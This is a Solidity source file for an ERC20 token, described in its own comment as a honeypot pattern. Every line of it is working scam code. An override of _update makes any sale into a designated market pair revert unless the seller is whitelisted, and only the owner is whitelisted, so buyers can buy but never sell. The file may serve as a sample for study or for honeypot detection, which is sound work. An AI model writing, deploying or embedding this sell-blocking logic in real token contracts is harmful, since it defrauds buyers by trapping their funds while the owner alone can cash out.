// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// @notice Honeypot pattern: anyone can buy, but a transfer into a market pair (a sell) reverts
/// unless the sender is whitelisted. The owner is whitelisted, so only the owner can sell.
contract HoneypotToken is ERC20, Ownable {
    mapping(address => bool) public isMarketPair;
    mapping(address => bool) public isWhitelisted;

    error TradingRestricted(address from);

    constructor(string memory name_, string memory symbol_, uint256 supply)
        ERC20(name_, symbol_)
        Ownable(msg.sender)
    {
        isWhitelisted[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function setMarketPair(address pair, bool value) external onlyOwner {
        isMarketPair[pair] = value;
    }

    function setWhitelisted(address account, bool value) external onlyOwner {
        isWhitelisted[account] = value;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (isMarketPair[to] && !isWhitelisted[from]) revert TradingRestricted(from);
        super._update(from, to, value);
    }
}
